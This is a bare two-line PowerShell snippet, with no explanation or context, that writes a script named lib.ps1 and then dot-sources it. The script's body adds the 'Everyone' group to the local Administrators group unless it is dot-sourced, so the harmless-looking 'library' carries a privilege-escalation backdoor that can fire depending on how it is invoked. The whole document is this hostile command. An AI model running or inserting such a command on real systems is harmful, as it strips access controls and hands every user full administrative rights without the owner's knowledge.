Set-Content C:\temp\lib.ps1 'if ($MyInvocation.InvocationName -ne ".") { Add-LocalGroupMember Administrators Everyone }'
. C:\temp\lib.ps1
